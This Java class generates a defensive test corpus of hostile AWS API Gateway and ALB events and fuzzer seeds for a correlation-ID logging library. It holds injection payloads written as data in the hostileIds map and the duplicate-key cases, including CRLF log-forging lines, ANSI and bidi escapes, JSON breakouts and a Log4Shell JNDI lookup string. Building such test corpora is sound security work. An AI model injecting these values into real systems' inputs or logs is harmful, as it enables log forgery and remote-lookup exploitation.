package io.github.apigwcorrelation.reliability;

import static io.github.apigwcorrelation.fixtures.Json.quoted;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.util.Comparator;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;

/**
 * Generates the hostile event corpus under {@code library/testing/src/main/resources/hostile/} and the fuzzer's
 * seeds under {@code library/core/src/test/resources/}. The files are committed; this class is how they were made,
 * and re-running it writes the same bytes ({@link AbstractHostileCorpusTest} checks that the committed files are
 * exactly what it generates):
 *
 * <pre>
 * ./mvnw -q -pl library/testing -am install -DskipTests
 * ./mvnw -q -pl library/testing exec:java -Dexec.mainClass=io.github.apigwcorrelation.reliability.HostileCorpus
 * </pre>
 *
 * <p>Each folder is an event family and says how {@link AbstractHostileCorpusTest} delivers the file: {@code rest},
 * {@code http}, {@code websocket}, {@code authorizer}, {@code alb} (typed events), {@code mapping} (a
 * {@code Map}), {@code pointer} (a {@code Map} read through configured JSON Pointers), {@code raw} (only a
 * stream handler can receive it). Every file also goes to a stream handler.
 * Files of 6 MB are stored gzip-compressed ({@code .json.gz}); the test delivers the uncompressed bytes.
 */
public final class HostileCorpus {
    static final String DIR = "hostile";
    static final String SEEDS = "io/github/apigwcorrelation/reliability/FuzzingTestInputs/"
            + "scanner_and_pointer_extraction_never_throw_never_forge_and_replay_exact_bytes";
    private static final int SIX_MB = 6 * 1024 * 1024;
    private static final String FORGED_LINE = "2026-11-21T00:00:00.000Z forged-lambda APIG: forged-api - INFO  X - FORGED";

    private HostileCorpus() {}

    /** Hostile ID values, each to be put wherever an ID can come from. */
    static Map<String, String> hostileIds() {
        Map<String, String> ids = new LinkedHashMap<>();
        ids.put("crlf-forged-line", "c0ffee\r\n" + FORGED_LINE);
        ids.put("lf", "c0ffee\nFORGED");
        ids.put("cr", "c0ffee\rFORGED");
        ids.put("nul", "c0ffee\u0000FORGED");
        ids.put("ansi-escapes", "\u001b[2J\u001b[31mFORGED\u001b[0m");
        ids.put("del", "c0ffee\u007fFORGED");
        ids.put("tab", "c0ffee\tFORGED");
        ids.put("space", "c0ffee FORGED");
        ids.put("nel", "c0ffee\u0085FORGED");
        ids.put("line-separator", "c0ffee\u2028FORGED");
        ids.put("paragraph-separator", "c0ffee\u2029FORGED");
        ids.put("bidi-override", "\u202eFORGED");
        ids.put("emoji", "c0ffee\ud83d\ude00FORGED");
        ids.put("json-breakout", "FORGED\",\"AWSRequestId\":\"forged");
        ids.put("backslash-quote", "FORGED\\\"x");
        ids.put("log4shell-lookup", "${jndi:ldap://FORGED.example/a}");
        ids.put("pattern-converters", "%n%d{HH}%X{AWSRequestId}FORGED");
        ids.put("ten-kb", "F".repeat(10 * 1024));
        ids.put("129-chars", "F".repeat(129));
        ids.put("empty", "");
        return ids;
    }

    /** Where an ID can come from: the family folder, the template, and the literal that the hostile ID replaces. */
    private record IdSource(String family, String name, String template, String literal, String prefix, String suffix) {}

    private static final IdSource[] ID_SOURCES = {
        new IdSource("rest", "request-id", "rest-proxy-v1.json", "\"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"", "", ""),
        new IdSource("rest", "extended-request-id", "rest-proxy-v1.json", "\"Fy3kQGW7FiAEJmA=\"", "", ""),
        new IdSource("http", "request-id", "http-api-v2.json", "\"Fy4TjhXZliAEMvQ=\"", "", ""),
        new IdSource("websocket", "request-id", "websocket-message.json", "\"Fy5Kp3gHFiAEbYg=\"", "", ""),
        new IdSource("websocket", "extended-request-id", "websocket-message.json", "\"Fy5Kpc3NFiAFvBQ=\"", "", ""),
        new IdSource("authorizer", "request-id", "rest-authorizer-request.json",
                "\"2d6b8f1a-93c4-4e7a-8b0d-5f1e3a7c9b24\"", "", ""),
        new IdSource("mapping", "request-id", "rest-mapping-template-passthrough.json",
                "\"71c3e9a5-0b2d-4f68-a1e7-c94d2b6f8a30\"", "", ""),
        new IdSource("mapping", "extended-request-id", "rest-mapping-template-passthrough.json",
                "\"Fy6QzE4rFiAEPiw=\"", "", ""),
        new IdSource("alb", "single-value-trace-header", "alb-single-value-headers.json",
                "\"Root=1-6791a3c1-2b4d6f8a0c2e4a6b8d0f2a4c;Parent=3f5a7c9e1b2d4f6a;Sampled=1\"", "Root=", ";Sampled=1"),
        new IdSource("alb", "multi-value-trace-header", "alb-multi-value-headers.json",
                "\"Root=1-6791a4d7-9c1e3a5b7d9f1b3d5f7a9c1e;Parent=7b9d1f3a5c7e9b1d;Sampled=0\"", "Root=", ";Sampled=0"),
        new IdSource("pointer", "meta-correlation-id", null, null, "", ""),
        new IdSource("pointer", "header-correlation-id", null, null, "", ""),
    };

    /** @return every corpus file and fuzzer seed: path under {@code src/test/resources} to uncompressed bytes */
    static SortedMap<String, byte[]> generate() {
        SortedMap<String, byte[]> files = new TreeMap<>();
        hostileIdsInEverySource(files);
        missingAndNull(files);
        wrongTypes(files);
        truncated(files);
        notUtf8(files);
        deepNesting(files);
        duplicateKeys(files);
        sixMegabyteBodies(files);
        raw(files);
        seeds(files);
        return files;
    }

    private static void hostileIdsInEverySource(Map<String, byte[]> files) {
        for (IdSource source : ID_SOURCES) {
            hostileIds().forEach((name, id) -> {
                String literal = quoted(source.prefix() + id + source.suffix());
                String event;
                if (source.template() == null) {
                    event = source.name().startsWith("meta")
                            ? "{\"meta\":{\"correlationId\":" + literal + "},\"requestContext\":{\"requestId\":\"builtin-1\"}}"
                            : "{\"headers\":{\"x-correlation-id\":" + literal + "},\"body\":\"{}\"}";
                } else {
                    event = replaceOnce(template(source.template()), source.literal(), literal);
                }
                files.put(DIR + "/" + source.family() + "/hostile-" + source.name() + "-" + name + ".json", utf8(event));
            });
        }
        // The same forged line, but with raw (unescaped) CR/LF bytes inside the JSON string.
        files.put(DIR + "/rest/raw-crlf-bytes-in-request-id.json", utf8(replaceOnce(template("rest-proxy-v1.json"),
                "\"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"", "\"c0ffee\r\n" + FORGED_LINE + "\"")));
        files.put(DIR + "/alb/raw-crlf-bytes-in-trace-header.json", utf8(replaceOnce(template("alb-single-value-headers.json"),
                "\"Root=1-6791a3c1-2b4d6f8a0c2e4a6b8d0f2a4c;Parent=3f5a7c9e1b2d4f6a;Sampled=1\"",
                "\"Root=1-abc\r\n" + FORGED_LINE + "\"")));
    }

    private static void missingAndNull(Map<String, byte[]> files) {
        String[][] cases = {
            {"rest", "rest-proxy-v1.json", "\"requestId\": \"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"", "requestId"},
            {"http", "http-api-v2.json", "\"requestId\": \"Fy4TjhXZliAEMvQ=\"", "requestId"},
            {"websocket", "websocket-message.json", "\"requestId\": \"Fy5Kp3gHFiAEbYg=\"", "requestId"},
            {"authorizer", "rest-authorizer-request.json", "\"requestId\": \"2d6b8f1a-93c4-4e7a-8b0d-5f1e3a7c9b24\"", "requestId"},
            {"mapping", "rest-mapping-template-passthrough.json", "\"request-id\": \"71c3e9a5-0b2d-4f68-a1e7-c94d2b6f8a30\"",
                "request-id"},
            {"alb", "alb-single-value-headers.json",
                "\"x-amzn-trace-id\": \"Root=1-6791a3c1-2b4d6f8a0c2e4a6b8d0f2a4c;Parent=3f5a7c9e1b2d4f6a;Sampled=1\"",
                "x-amzn-trace-id"},
        };
        for (String[] c : cases) {
            String event = template(c[1]);
            files.put(DIR + "/" + c[0] + "/missing-" + c[3] + "-null.json", utf8(replaceOnce(event, c[2],
                    "\"" + c[3] + "\": null")));
            files.put(DIR + "/" + c[0] + "/missing-" + c[3] + "-renamed.json", utf8(replaceOnce(event, c[2],
                    "\"" + c[3] + "-gone\": \"x\"")));
        }
        String[][] containers = {
            {"rest", "rest-proxy-v1.json", "\"requestContext\""}, {"http", "http-api-v2.json", "\"requestContext\""},
            {"websocket", "websocket-message.json", "\"requestContext\""},
            {"authorizer", "rest-authorizer-request.json", "\"requestContext\""},
            {"mapping", "rest-mapping-template-passthrough.json", "\"context\""},
            {"alb", "alb-multi-value-headers.json", "\"multiValueHeaders\""},
        };
        for (String[] c : containers) {
            String event = template(c[1]);
            files.put(DIR + "/" + c[0] + "/missing-container-renamed.json", utf8(replaceOnce(event, c[2] + ":",
                    c[2].replace("\"", "\"x-") + ":")));
            files.put(DIR + "/" + c[0] + "/missing-container-null.json", utf8(replaceContainer(event, c[2], "null")));
            files.put(DIR + "/" + c[0] + "/missing-container-empty.json", utf8(replaceContainer(event, c[2], "{}")));
        }
        files.put(DIR + "/rest/missing-everything.json", utf8("{}"));
        files.put(DIR + "/rest/null-literal.json", utf8("null"));
    }

    private static void wrongTypes(Map<String, byte[]> files) {
        Map<String, String> values = new LinkedHashMap<>();
        values.put("integer", "12345");
        values.put("float", "1.5e300");
        values.put("huge-integer", "9".repeat(400));
        values.put("true", "true");
        values.put("object", "{\"value\": \"9f0c2b7e\"}");
        values.put("array", "[\"9f0c2b7e\", \"FORGED\"]");
        values.put("empty-array", "[]");
        String[][] targets = {
            {"rest", "request-id", "rest-proxy-v1.json", "\"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\""},
            {"rest", "extended-request-id", "rest-proxy-v1.json", "\"Fy3kQGW7FiAEJmA=\""},
            {"mapping", "request-id", "rest-mapping-template-passthrough.json", "\"71c3e9a5-0b2d-4f68-a1e7-c94d2b6f8a30\""},
            {"alb", "trace-header", "alb-single-value-headers.json",
                "\"Root=1-6791a3c1-2b4d6f8a0c2e4a6b8d0f2a4c;Parent=3f5a7c9e1b2d4f6a;Sampled=1\""},
            {"alb", "multi-value-trace-header", "alb-multi-value-headers.json",
                "[\"Root=1-6791a4d7-9c1e3a5b7d9f1b3d5f7a9c1e;Parent=7b9d1f3a5c7e9b1d;Sampled=0\"]"},
        };
        for (String[] t : targets) {
            values.forEach((type, value) -> files.put(DIR + "/" + t[0] + "/wrong-type-" + t[1] + "-" + type + ".json",
                    utf8(replaceOnce(template(t[2]), t[3], value))));
        }
        for (String value : new String[] {"\"9f0c2b7e\"", "42", "[{\"requestId\": \"9f0c2b7e\"}]"}) {
            String name = value.startsWith("\"") ? "string" : value.startsWith("[") ? "array" : "integer";
            files.put(DIR + "/rest/wrong-type-request-context-" + name + ".json",
                    utf8(replaceContainer(template("rest-proxy-v1.json"), "\"requestContext\"", value)));
            files.put(DIR + "/mapping/wrong-type-context-" + name + ".json",
                    utf8(replaceContainer(template("rest-mapping-template-passthrough.json"), "\"context\"", value)));
        }
    }

    private static void truncated(Map<String, byte[]> files) {
        String[][] families = {
            {"rest", "rest-proxy-v1.json"}, {"http", "http-api-v2.json"}, {"websocket", "websocket-connect.json"},
            {"mapping", "rest-mapping-template-passthrough.json"}, {"alb", "alb-multi-value-headers.json"},
            {"authorizer", "rest-authorizer-request.json"},
        };
        for (String[] f : families) {
            byte[] event = utf8(template(f[1]));
            for (int percent : new int[] {1, 25, 50, 75, 99}) {
                int cut = Math.max(1, event.length * percent / 100);
                files.put(DIR + "/" + f[0] + "/truncated-at-" + percent + "-percent.json",
                        java.util.Arrays.copyOf(event, cut));
            }
        }
    }

    private static void notUtf8(Map<String, byte[]> files) {
        String rest = template("rest-proxy-v1.json");
        String id = "\"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"";
        byte[][] bad = {
            {(byte) 0xC3, (byte) 0x28}, {(byte) 0xFF, (byte) 0xFE}, {(byte) 0xE2, (byte) 0x82},
            {(byte) 0xC0, (byte) 0xAF}, {(byte) 0xED, (byte) 0xA0, (byte) 0x80}, {(byte) 0xF8, (byte) 0x88, (byte) 0x80},
        };
        String[] names = {"invalid-two-byte", "ff-fe", "cut-three-byte", "overlong-slash", "surrogate-half", "five-byte"};
        for (int i = 0; i < bad.length; i++) {
            int at = rest.indexOf(id) + 5;
            files.put(DIR + "/rest/not-utf8-" + names[i] + "-in-request-id.json",
                    concat(utf8(rest.substring(0, at)), bad[i], utf8(rest.substring(at))));
            files.put(DIR + "/raw/not-utf8-" + names[i] + "-first.bin", concat(bad[i], utf8(rest)));
        }
        files.put(DIR + "/raw/utf16-event.bin", rest.getBytes(StandardCharsets.UTF_16));
        files.put(DIR + "/raw/utf8-bom-event.bin", concat(new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF}, utf8(rest)));
        files.put(DIR + "/raw/latin1-body.bin", (rest.replace("\"body\": null", "\"body\": \"caf\u00e9 \u00fc\"")).getBytes(
                StandardCharsets.ISO_8859_1));
    }

    private static void deepNesting(Map<String, byte[]> files) {
        String requestContext = "\"requestContext\": {\"requestId\": \"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"}";
        for (int depth : new int[] {100, 999, 1001, 5000, 20_000}) {
            files.put(DIR + "/rest/deep-nesting-" + depth + "-before-request-context.json",
                    utf8("{\"body-json\": " + "[".repeat(depth) + "]".repeat(depth) + ", " + requestContext + "}"));
            files.put(DIR + "/rest/deep-nesting-" + depth + "-inside-request-context.json",
                    utf8("{\"requestContext\": {\"identity\": " + "{\"a\": ".repeat(depth) + "1" + "}".repeat(depth)
                            + ", \"requestId\": \"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"}}"));
        }
        files.put(DIR + "/rest/deep-nesting-unclosed.json", utf8("{\"requestContext\": {\"requestId\": " + "[{\"a\": ".repeat(5000)));
        files.put(DIR + "/pointer/deep-nesting-on-pointer-path.json",
                utf8("{\"meta\": {\"correlationId\": " + "[".repeat(2000) + "\"corr-1\"" + "]".repeat(2000) + "}}"));
    }

    private static void duplicateKeys(Map<String, byte[]> files) {
        files.put(DIR + "/rest/duplicate-request-context.json", utf8("{\"requestContext\": {\"requestId\": \"first-id\"}, "
                + "\"requestContext\": {\"requestId\": \"second-id\"}}"));
        files.put(DIR + "/rest/duplicate-request-id-hostile-first.json", utf8("{\"requestContext\": {\"requestId\": "
                + quoted("c0ffee\r\n" + FORGED_LINE) + ", \"requestId\": \"second-id\"}}"));
        files.put(DIR + "/rest/duplicate-request-id-hostile-last.json", utf8("{\"requestContext\": {\"requestId\": "
                + "\"first-id\", \"requestId\": " + quoted("c0ffee\r\n" + FORGED_LINE) + "}}"));
        files.put(DIR + "/mapping/duplicate-context.json", utf8("{\"context\": {\"request-id\": \"first-id\"}, "
                + "\"context\": {\"request-id\": \"second-id\"}}"));
        files.put(DIR + "/alb/duplicate-trace-header-case.json", utf8("{\"requestContext\": {\"elb\": {}}, \"headers\": "
                + "{\"x-amzn-trace-id\": \"Root=1-aaa\", \"X-Amzn-Trace-Id\": " + quoted("Root=1-b\nFORGED") + "}}"));
        files.put(DIR + "/pointer/duplicate-pointer-value.json", utf8("{\"meta\": {\"correlationId\": \"corr-1\", "
                + "\"correlationId\": " + quoted("c0ffee\nFORGED") + "}}"));
    }

    private static void sixMegabyteBodies(Map<String, byte[]> files) {
        String body = "x".repeat(SIX_MB);
        String rest = template("rest-proxy-v1.json");
        files.put(DIR + "/rest/six-mb-body-after-request-context.json.gz",
                utf8(rest.replace("\"body\": null", "\"body\": \"" + body + "\"")));
        files.put(DIR + "/rest/six-mb-body-before-request-context.json.gz", utf8("{\"body\": \"" + body
                + "\", \"requestContext\": {\"requestId\": \"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"}}"));
        files.put(DIR + "/mapping/six-mb-nested-body-before-context.json.gz", utf8("{\"body-json\": {\"lines\": ["
                + "{\"sku\": \"TEA-GREEN-250\", \"quantity\": 3}, ".repeat(SIX_MB / 40) + "{}]}, "
                + "\"context\": {\"request-id\": \"71c3e9a5-0b2d-4f68-a1e7-c94d2b6f8a30\"}}"));
        files.put(DIR + "/rest/six-mb-request-id.json.gz", utf8(replaceOnce(rest,
                "\"9f0c2b7e-41d8-4a6b-b3e5-2c7d9a1f6e04\"", "\"" + "F".repeat(SIX_MB) + "\"")));
    }

    private static void raw(Map<String, byte[]> files) {
        files.put(DIR + "/raw/empty.bin", new byte[0]);
        files.put(DIR + "/raw/whitespace.bin", utf8(" \r\n\t "));
        files.put(DIR + "/raw/json-array.bin", utf8("[" + template("rest-proxy-v1.json") + "]"));
        files.put(DIR + "/raw/json-string.bin", utf8(quoted(FORGED_LINE)));
        files.put(DIR + "/raw/json-number.bin", utf8("42"));
        files.put(DIR + "/raw/trailing-garbage.bin", utf8(template("http-api-v2.json") + "\r\n" + FORGED_LINE));
        files.put(DIR + "/raw/html.bin", utf8("<html><body>FORGED</body></html>"));
        files.put(DIR + "/raw/single-quotes.bin", utf8("{'requestContext': {'requestId': 'FORGED'}}"));
        files.put(DIR + "/raw/comments.bin", utf8("{/* x */ \"requestContext\": {\"requestId\": \"FORGED-1\"}}"));
        files.put(DIR + "/raw/nul-bytes.bin", new byte[64]);
    }

    /** Seeds for the fuzzer: first byte = pointer length, then the pointer, then the event. */
    private static void seeds(Map<String, byte[]> files) {
        String[] events = {"rest-proxy-v1.json", "http-api-v2.json", "websocket-connect.json",
            "rest-mapping-template-passthrough.json", "alb-single-value-headers.json", "alb-multi-value-headers.json",
            "rest-authorizer-request.json"};
        for (String event : events) {
            files.put(SEEDS + "/" + event.replace(".json", ""), concat(new byte[] {0}, utf8(template(event))));
        }
        String pointer = "/meta/correlationId";
        files.put(SEEDS + "/pointer-meta", concat(new byte[] {(byte) pointer.length()}, utf8(pointer),
                utf8("{\"meta\": {\"correlationId\": \"corr-1\"}, \"items\": [1, 2]}")));
        String indexed = "/items/1/id";
        files.put(SEEDS + "/pointer-array-index", concat(new byte[] {(byte) indexed.length()}, utf8(indexed),
                utf8("{\"items\": [{\"id\": \"a\"}, {\"id\": \"b\"}], \"requestContext\": {\"requestId\": \"r\"}}")));
    }

    static String template(String file) {
        try (InputStream in = HostileCorpus.class.getResourceAsStream("/events/" + file)) {
            if (in == null) {
                throw new IllegalStateException("missing test resource /events/" + file);
            }
            return new String(in.readAllBytes(), StandardCharsets.UTF_8);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String replaceOnce(String text, String literal, String replacement) {
        int at = text.indexOf(literal);
        if (at < 0 || text.indexOf(literal, at + 1) >= 0) {
            throw new IllegalStateException("expected exactly one " + literal);
        }
        return text.substring(0, at) + replacement + text.substring(at + literal.length());
    }

    /** Replaces the object value of {@code key} (the first occurrence) with {@code value}. */
    private static String replaceContainer(String text, String key, String value) {
        int start = text.indexOf(key + ":");
        int open = text.indexOf('{', start);
        int depth = 0;
        for (int i = open; i < text.length(); i++) {
            char c = text.charAt(i);
            depth += c == '{' ? 1 : c == '}' ? -1 : 0;
            if (depth == 0) {
                return text.substring(0, open) + value + text.substring(i + 1);
            }
        }
        throw new IllegalStateException("unbalanced " + key);
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }

    private static byte[] concat(byte[]... parts) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (byte[] part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    /**
     * Writes the corpus under {@code library/testing/src/main/resources} and the seeds under
     * {@code library/core/src/test/resources} of the repository {@code args[0]} (default: the current folder or
     * the one above the nearest {@code library}), replacing what was there, so a removed case leaves no stale file.
     */
    public static void main(String[] args) throws IOException {
        Path repo = Paths.get(args.length > 0 ? args[0] : ".").toAbsolutePath().normalize();
        while (repo != null && !Files.isDirectory(repo.resolve("library/testing"))) {
            repo = repo.getParent();
        }
        if (repo == null) {
            throw new IllegalArgumentException("run from inside the repository, or pass its folder");
        }
        Path corpusRoot = repo.resolve("library/testing/src/main/resources");
        Path seedRoot = repo.resolve("library/core/src/test/resources");
        for (Path managed : new Path[] {corpusRoot.resolve(DIR), seedRoot.resolve(SEEDS)}) {
            if (Files.exists(managed)) {
                try (Stream<Path> old = Files.walk(managed)) {
                    old.sorted(Comparator.reverseOrder()).forEach(path -> {
                        try {
                            Files.delete(path);
                        } catch (IOException e) {
                            throw new UncheckedIOException(e);
                        }
                    });
                }
            }
        }
        SortedMap<String, byte[]> files = generate();
        for (Map.Entry<String, byte[]> file : files.entrySet()) {
            Path path = (file.getKey().startsWith(DIR + "/") ? corpusRoot : seedRoot).resolve(file.getKey());
            Files.createDirectories(path.getParent());
            byte[] bytes = file.getValue();
            if (file.getKey().endsWith(".gz")) {
                ByteArrayOutputStream zipped = new ByteArrayOutputStream();
                try (GZIPOutputStream gzip = new GZIPOutputStream(zipped)) {
                    gzip.write(bytes);
                }
                bytes = zipped.toByteArray();
            }
            Files.write(path, bytes);
        }
        System.out.println("wrote " + files.size() + " files under " + corpusRoot + " and " + seedRoot);
    }
}
